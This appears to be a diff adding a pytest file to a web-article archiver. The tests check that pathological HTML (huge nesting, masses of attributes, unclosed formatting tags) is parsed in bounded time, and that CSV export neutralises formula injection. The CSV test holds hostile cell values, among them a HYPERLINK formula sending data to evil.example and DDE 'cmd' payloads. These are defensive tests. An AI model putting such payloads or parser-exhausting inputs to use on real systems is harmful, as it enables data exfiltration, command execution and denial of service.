@@ -1,0 +1,140 @@
+"""Hostile pages and what is made of them (issue 13): the extraction of any page is
+bounded, and an export never hands a spreadsheet a formula.
+
+The hostile inputs are built here, not kept as files.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import time
+from pathlib import Path
+
+import pytest
+from selectolax.lexbor import LexborHTMLParser
+
+import archiver
+from archiver.article import Article, ExtractorInfo
+from archiver.capture import load
+from archiver.extraction.budget import MAX_ATTRIBUTES, MAX_DEPTH, bounded_html
+from archiver.warc.writer import WarcWriter, target_uri
+
+#: The issue's budget for any one page.
+SECONDS = 10.0
+
+PARAGRAPHS = [
+    f"Paragraph {n} of the article says what the minister announced on Tuesday, in words "
+    "enough to be read as prose."
+    for n in range(1, 9)
+]
+ARTICLE = "<h1>A headline</h1>" + "".join(f"<p>{p}</p>" for p in PARAGRAPHS)
+
+
+def page(body: str) -> str:
+    return f"<html><head><title>A headline</title></head><body>{body}</body></html>"
+
+
+def nested(levels: int) -> str:
+    return page("<div>" * levels + ARTICLE + "</div>" * levels)
+
+
+def attributes(count: int) -> str:
+    names = " ".join(f'a{n}="{n}"' for n in range(count))
+    return page(f"<div {names}>{ARTICLE}</div>")
+
+
+def formatting(open_tags: int, paragraphs: int) -> str:
+    # Parsers open every unclosed <b> again in each later block: 68 KB of this shape
+    # made 1.6 million elements.
+    tags = "".join(f'<b class="c{n}">' for n in range(open_tags))
+    return page(f"<p>{tags}" + "<p>x" * paragraphs + ARTICLE)
+
+
+def lexbor_depth(html: str) -> int:
+    """The depth of the tree an HTML5 parser builds of ``html``."""
+    root = LexborHTMLParser(html).root
+    deepest, stack = 0, [(root, 1)] if root is not None else []
+    while stack:
+        node, depth = stack.pop()
+        deepest = max(deepest, depth)
+        child = node.child
+        while child is not None:
+            stack.append((child, depth + 1))
+            child = child.next
+    return deepest
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        pytest.param(nested(100_000), id="100,000 nested divs"),
+        pytest.param(attributes(200_000), id="200,000 attributes on one element"),
+        pytest.param(formatting(4_000, 4_000), id="4,000 unclosed b before 4,000 blocks"),
+        pytest.param(nested(1_000_000), id="a million nested divs", marks=pytest.mark.slow),
+    ],
+)
+def test_case_7_deep_or_attribute_laden_pages_extract_in_bounded_time(html: str) -> None:
+    # These took 22 s to over 600 s: lexbor walks the open elements at each tag, and
+    # lexbor and libxml2 compare each attribute with all the earlier ones of its element.
+    started = time.perf_counter()
+    article = archiver.extract(html.encode())
+    assert time.perf_counter() - started < SECONDS
+    # Trimmed where it goes over, not refused: the article is all there.
+    assert article.title == "A headline"
+    assert article.text.split("\n\n")[-len(PARAGRAPHS) :] == PARAGRAPHS
+
+
+def test_case_7_pages_over_budget_are_trimmed_where_they_go_over() -> None:
+    bounded, overrun = bounded_html(nested(5_000))
+    assert overrun is not None and overrun.depth > 5_000
+    assert f"nested {overrun.depth:,} deep" in overrun.describe()
+    # What parsers build of it stays under the limit (with <html> and <body> around it).
+    assert lexbor_depth(bounded) <= MAX_DEPTH + 3
+    assert bounded.count("<p>") == len(PARAGRAPHS)
+
+    bounded, overrun = bounded_html(attributes(5_000))
+    assert overrun is not None and overrun.attributes == 5_000
+    div = LexborHTMLParser(bounded).css_first("div")
+    assert div is not None and len(div.attributes) == MAX_ATTRIBUTES
+    assert div.attributes["a0"] == "0"
+
+    # A page within the budget is passed on as it came: the same string.
+    html = page("<div>" * 150 + ARTICLE + "</div>" * 150)
+    assert bounded_html(html) == (html, None)
+
+
+def test_case_9_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    hostile = {
+        "title": '=HYPERLINK("http://evil.example/?q="&A1, "click")',
+        "description": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "text": "+cmd|' /C calc'!A0\n\nThe rest of the article.",
+        "section": "-2+3+cmd|' /C calc'!A0",
+        "source": "\t=1+1",
+        "site": "\r=1+1",
+    }
+    article = Article(
+        extractor=ExtractorInfo("generic", "1.0"),
+        input_kind="html",
+        url="https://example.com/a",
+        authors=("=1+1",),
+        **hostile,
+    )
+    document = load(page(ARTICLE), url="https://example.com/a")
+    warc = tmp_path / "a.warc.gz"
+    with WarcWriter(warc) as writer:
+        writer.write_article(document, article, target_uri=target_uri(document, article))
+
+    archiver.export([warc], tmp_path / "a.csv", format="csv")
+    with (tmp_path / "a.csv").open(encoding="utf-8", newline="") as stream:
+        (row,) = list(csv.DictReader(stream))
+    for column, value in hostile.items():
+        # Text, as OWASP recommends: a leading single quote, the value after it whole.
+        assert row[column] == "'" + value
+    assert row["authors"] == '["=1+1"]'  # a JSON array starts with "["
+    assert row["title"] != article.title and row["word_count"] == str(article.word_count)
+
+    # JSON lines keep the data as it is.
+    archiver.export([warc], tmp_path / "a.jsonl")
+    data = json.loads((tmp_path / "a.jsonl").read_text(encoding="utf-8"))
+    assert {column: data[column] for column in hostile} == hostile
